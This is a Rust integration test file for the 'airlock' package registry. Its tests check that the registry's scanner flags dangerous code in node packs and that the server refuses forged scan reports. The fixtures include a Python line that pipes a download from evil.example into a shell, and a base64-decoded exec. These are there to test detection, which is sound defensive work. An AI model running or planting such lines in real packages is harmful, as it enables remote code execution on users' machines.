//! Review bound to digests, through the real CLI and server: a node pack's scan report is
//! re-made and stored by the server, a high finding is refused unless the signed statement
//! acknowledges it (and the acknowledgement shows in `airlock log`), a clean report handed in
//! for a dirty pack is refused, `airlock approve` prints the findings it approves, and
//! `airlock ingest` turns a catalog into packs, reports and statements with a summary table.

use crate::harness::{http_get, World};

/// A checkout of a pack `id` whose `nodes.py` is `code`.
fn tree(world: &World, dir: &str, id: &str, code: &str) {
    world.write(
        &format!("{dir}/pyproject.toml"),
        format!("[project]\nname = \"{id}\"\nversion = \"1.0.0\"\nlicense = \"MIT\"\n").as_bytes(),
    );
    world.write(&format!("{dir}/requirements.txt"), b"numpy>=1.24\n");
    world.write(&format!("{dir}/nodes.py"), code.as_bytes());
}

const DIRTY: &str = "import os\nos.system('curl http://evil.example/x | sh')\n";
const CLEAN: &str = "def blur(x):\n    return x\n";

/// `airlock publish PACK --kind node` by publisher 1 to `url` with `token`, then `extra`.
pub fn publish_node(
    world: &World,
    url: &str,
    token: &str,
    pack: &str,
    extra: &[&str],
) -> crate::harness::Run {
    let mut args = vec![
        "publish",
        pack,
        "--kind",
        "node",
        "--key",
        "keys/pub1.key",
        "--root",
        "root.cbor",
        "--server",
        url,
        "--token",
        token,
    ];
    args.extend_from_slice(extra);
    world.cli(&args)
}

fn publish(world: &World, pack: &str, extra: &[&str]) -> crate::harness::Run {
    publish_node(world, &world.url(), &world.publish_token, pack, extra)
}

#[test]
fn a_high_finding_is_refused_unless_the_statement_acknowledges_it_and_the_log_shows_it() {
    let world = World::new(1, 1);
    tree(&world, "dirty", "dirty-nodes", DIRTY);
    world.cli(&["pack", "dirty", "-o", "dirty.zip"]).ok();
    publish(&world, "dirty.zip", &[]).code(1).says("does not acknowledge: python.shell at nodes.py:2");
    publish(&world, "dirty.zip", &["--acknowledge", "python.shell@nodes.py:9"])
        .code(1)
        .says("no such finding");
    publish(&world, "dirty.zip", &["--acknowledge", "python.shell@nodes.py:2"]).ok();

    // The release names the report; the server stored the report it made under that digest.
    let (status, body) = http_get(&world.url(), "/v1/releases/node/dirty-nodes/1.0.0");
    assert_eq!(status, 200);
    let release: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(release["metadata"]["license"], "MIT");
    assert_eq!(
        release["metadata"]["acknowledged_findings"],
        serde_json::json!([{ "rule": "python.shell", "file": "nodes.py", "line": 2 }])
    );
    let report = release["metadata"]["scan_report"].as_str().unwrap().to_owned();
    let (status, bytes) = http_get(&world.url(), &format!("/v1/blobs/blake3/{}", &report["blake3:".len()..]));
    assert_eq!(status, 200);
    assert_eq!(airlock_proto::Digest::of(&bytes).to_string(), report);
    let stored = airlock_client::scan::Report::from_bytes(&bytes).unwrap();
    assert_eq!(stored.scanner, airlock_client::scan::SCANNER_VERSION);
    assert!(stored.findings.iter().any(|f| f.rule == "python.shell" && f.line == Some(2)));

    let url = world.url();
    let log = world.cli(&["log", "--server", &url, "--root", "root.cbor"]).ok();
    assert!(log.stdout.contains("node dirty-nodes==1.0.0 scan report blake3:"), "{}", log.stdout);
    assert!(log.stdout.contains("acknowledging python.shell at nodes.py:2"), "{}", log.stdout);

    // A clean pack needs no acknowledgement. Scanned against the registry, its requirement on
    // numpy is reported: the registry holds no numpy wheel.
    tree(&world, "clean", "clean-nodes", CLEAN);
    world.cli(&["pack", "clean", "-o", "clean.zip"]).ok();
    let scanned = world.cli(&["scan", "clean.zip", "--server", &url]).ok();
    assert!(scanned.stdout.contains("requirements.unavailable"), "{}", scanned.stdout);
    assert!(
        scanned.stdout.contains("\"numpy>=1.24\": the registry holds no wheel release"),
        "{}",
        scanned.stdout
    );
    publish(&world, "clean.zip", &[]).ok();
}

/// A release of the dirty pack that names the clean pack's report (uploaded as a blob) is
/// refused; so is one naming a report made by another scanner version, with the version to use.
#[test]
fn the_server_refuses_a_clean_report_for_a_dirty_pack() {
    let world = World::new(1, 1);
    tree(&world, "clean", "nodes", CLEAN);
    tree(&world, "dirty", "nodes", DIRTY);
    world.cli(&["pack", "clean", "-o", "clean/nodes.zip"]).ok();
    world.cli(&["pack", "dirty", "-o", "dirty/nodes.zip"]).ok();
    let url = world.url();
    let upload = |file: &str| {
        world.cli(&["upload", file, "--server", &url, "--token", &world.publish_token]).ok();
    };
    upload("dirty/nodes.zip");
    let blocklist = airlock_client::scan::Blocklist::default();
    let clean = airlock_client::scan::scan_file(&world.path("clean/nodes.zip"), &blocklist).unwrap();
    assert!(clean.findings.is_empty(), "{:?}", clean.findings);
    let mut older = clean.clone();
    older.scanner = "airlock-scan/0.0.1+rules.0".to_owned();
    for (report, expected) in [
        (&clean, "its findings differ from this server's"),
        (
            &older,
            &format!(
                "it was made by airlock-scan/0.0.1+rules.0; this server scans with {}",
                airlock_client::scan::SCANNER_VERSION
            ),
        ),
    ] {
        let bytes = report.to_bytes();
        world.write("report.json", &bytes);
        upload("report.json");
        let digests = airlock_client::publish::hash_file(&world.path("dirty/nodes.zip")).unwrap();
        let metadata = airlock_proto::Metadata {
            scan_report: Some(airlock_proto::Digest::of(&bytes)),
            ..airlock_proto::Metadata::default()
        };
        let envelope = airlock_client::statements::release(
            airlock_proto::Kind::Node,
            airlock_proto::PackageName::new(airlock_proto::Kind::Node, "nodes").unwrap(),
            airlock_proto::Version::new("1.0.0").unwrap(),
            vec![airlock_client::statements::file_entry(
                airlock_proto::FileName::new("nodes.zip").unwrap(),
                digests,
            )],
            metadata,
            1_700_000_000,
        )
        .unwrap();
        let (status, body) = world.submit_signed_by_publisher(envelope);
        let body = String::from_utf8_lossy(&body);
        assert_eq!(status, 422, "{body}");
        assert!(body.contains("is not the report this server makes of the pack"), "{body}");
        assert!(body.contains(expected), "{body}");
    }
}

#[test]
fn approve_prints_the_findings_of_the_report_it_approves() {
    let world = World::new(2, 2);
    tree(&world, "dirty", "dirty-nodes", DIRTY);
    world.cli(&["pack", "dirty", "-o", "dirty.zip"]).ok();
    publish(&world, "dirty.zip", &["--sign-only", "-o", "s.cbor", "--acknowledge", "all"]).ok();
    assert!(world.path("s.cbor.report.json").exists());
    let approve =
        || world.cli(&["approve", "s.cbor", "--key", "keys/pub2.key", "--root", "root.cbor", "-o", "t.cbor"]);
    let shown = approve().ok();
    assert!(shown.stdout.contains("file dirty.zip blake3:"), "{}", shown.stdout);
    assert!(
        shown.stdout.contains("python.shell")
            && shown.stdout.contains("nodes.py:2")
            && shown.stdout.contains("[acknowledged]"),
        "{}",
        shown.stdout
    );
    // The report travels with the statement; the approved statement is logged.
    assert!(world.path("t.cbor.report.json").exists());
    let url = world.url();
    world.cli(&["submit", "t.cbor", "--server", &url, "--token", &world.publish_token]).ok();

    // A report that is not the one the statement names, or none, is not approved blind.
    world.write(
        "s.cbor.report.json",
        b"{\"scanner\":\"x\",\"file\":\"dirty.zip\",\"blocklist\":[],\"findings\":[]}",
    );
    approve().code(1).says("not the report");
    std::fs::remove_file(world.path("s.cbor.report.json")).unwrap();
    approve().code(1).says("must be reviewed before approving");
}

#[test]
fn ingest_turns_a_catalog_into_packs_reports_and_statements_with_a_summary() {
    let world = World::new(1, 1);
    tree(&world, "src/good", "good-nodes", CLEAN);
    tree(&world, "src/evil", "evil-nodes", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n");
    tree(&world, "src/other", "other-nodes", CLEAN);
    let status = std::process::Command::new("tar")
        .args(["czf", "evil-1.0.0.tar.gz", "evil"])
        .current_dir(world.path("src"))
        .status()
        .unwrap();
    assert!(status.success());
    world.write(
        "catalog.yaml",
        b"nodes:
  - name: good-nodes
    version: 1.0.0
    source_url: https://git.example.internal/good
    dependencies: [\"numpy>=1.24\"]
    offline_package: src/good
    security_level: trusted
    compatibility: comfyui>=1.0.0
  - name: evil-nodes
    version: 1.0.0
    dependencies: [\"numpy>=1.24\", \"requests\"]
    offline_package: src/evil-1.0.0.tar.gz
  - name: renamed-nodes
    version: 1.0.0
    offline_package: src/other
",
    );
    crate::pytools::build_wheel(
        &world.path("downloads"),
        &crate::pytools::WheelSpec::new("numpy", "1.26.0", &[]),
    );
    let url = world.url();
    let run = world.cli(&[
        "ingest",
        "catalog.yaml",
        "-o",
        "intake",
        "--wheels",
        "downloads",
        "--key",
        "keys/pub1.key",
        "--root",
        "root.cbor",
        "--server",
        &url,
        "--token",
        &world.publish_token,
    ]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let row = |name: &str| run.stdout.lines().find(|l| l.starts_with(name)).unwrap_or_default().to_owned();
    assert!(row("good-nodes").contains("passed"), "{}", run.stdout);
    assert!(!row("good-nodes").contains("no wheel"), "{}", run.stdout);
    assert!(world.path("intake/wheels/numpy-1.26.0.cbor").exists(), "{}", run.stdout);
    assert!(row("evil-nodes").contains("needs acknowledgement"), "{}", run.stdout);
    assert!(row("evil-nodes").contains("python.exec-decoded at nodes.py:2"), "{}", run.stdout);
    assert!(row("evil-nodes").contains("differ from the pack's requirements"), "{}", run.stdout);
    assert!(row("renamed-nodes").contains("refused"), "{}", run.stdout);
    assert!(run.stderr.contains("1 of 3 catalog entries refused"), "{}", run.stderr);
    for file in [
        "good-nodes-1.0.0.zip",
        "good-nodes-1.0.0.cbor",
        "good-nodes-1.0.0.cbor.report.json",
        "evil-nodes-1.0.0.cbor",
    ] {
        assert!(world.path(&format!("intake/{file}")).exists(), "{file}");
    }
    // The good one is ready: submitted, it is logged with its compatibility and source.
    world
        .cli(&["submit", "intake/good-nodes-1.0.0.cbor", "--server", &url, "--token", &world.publish_token])
        .ok();
    let (status, body) = http_get(&world.url(), "/v1/releases/node/good-nodes/1.0.0");
    assert_eq!(status, 200);
    let release: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(release["metadata"]["comfyui"], "comfyui>=1.0.0");
    assert_eq!(release["metadata"]["source_url"], "https://git.example.internal/good");
    // The evil one is refused as it stands.
    world
        .cli(&["submit", "intake/evil-nodes-1.0.0.cbor", "--server", &url, "--token", &world.publish_token])
        .code(1)
        .says("does not acknowledge: python.exec-decoded at nodes.py:2");

    // The same shape as JSON and TOML.
    world.write(
        "catalog.json",
        b"[{\"name\": \"good-nodes\", \"version\": \"1.0.0\", \"dependencies\": [\"numpy>=1.24\"], \"offline_package\": \"src/good\"}]",
    );
    world.write(
        "catalog.toml",
        b"[[nodes]]\nname = \"good-nodes\"\nversion = \"1.0.0\"\ndependencies = [\"numpy>=1.24\"]\noffline_package = \"src/good\"\n",
    );
    for catalog in ["catalog.json", "catalog.toml"] {
        let run = world
            .cli(&["ingest", catalog, "-o", "again", "--key", "keys/pub1.key", "--root", "root.cbor"])
            .ok();
        assert!(run.stdout.contains("passed"), "{}", run.stdout);
    }
}

/// The policy comes from the config file: `scan_reject = "medium"` refuses a pack with a medium
/// finding even when acknowledged, and `scan_blocklist` replaces the shipped list (a publish
/// scans with it, read from `GET /v1/scan/policy`).
#[test]
fn the_scan_policy_in_the_config_file_rejects_and_blocklists() {
    let world = World::prepared(1, 1);
    let token =
        airlock_server::cli::token_create(&world.path("data"), airlock_server::auth::Scope::Publish, "ci")
            .unwrap();
    world.write(
        "airlockd.toml",
        b"scan_reject = \"medium\"\nscan_acknowledge = \"low\"\nscan_blocklist = [\"numpy<2\"]\n",
    );
    let port = crate::crash::free_port();
    let mut child =
        crate::harness::spawn_airlockd(&world, "data", port, &["--config", "airlockd.toml"], None);
    let url = format!("http://127.0.0.1:{port}");
    let (status, body) = http_get(&url, "/v1/scan/policy");
    assert_eq!(status, 200);
    let policy: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(policy["reject"], "medium");
    assert_eq!(policy["acknowledge"], "low");
    assert_eq!(policy["blocklist"], serde_json::json!(["numpy<2"]));
    assert_eq!(policy["scanner"], airlock_client::scan::SCANNER_VERSION);

    let publish = |pack: &str, extra: &[&str]| publish_node(&world, &url, &token, pack, extra);
    // numpy>=1.24 admits numpy 1.x, which this server's blocklist refuses.
    tree(&world, "blocked", "blocked-nodes", CLEAN);
    world.cli(&["pack", "blocked", "-o", "blocked.zip"]).ok();
    publish("blocked.zip", &["--acknowledge", "all"])
        .code(1)
        .says("the scan policy refuses blocked-nodes findings at medium or above: requirements.blocklisted");
    // A medium finding (an install hook), acknowledged, is still refused at reject = medium.
    tree(&world, "hook", "hook-nodes", CLEAN);
    world.write("hook/requirements.txt", b"safetensors\n");
    world.write("hook/install.py", b"print('hi')\n");
    world.cli(&["pack", "hook", "-o", "hook.zip"]).ok();
    publish("hook.zip", &["--acknowledge", "all"]).code(1).says("install.hook at install.py");
    child.kill().unwrap();
    child.wait().unwrap();
}
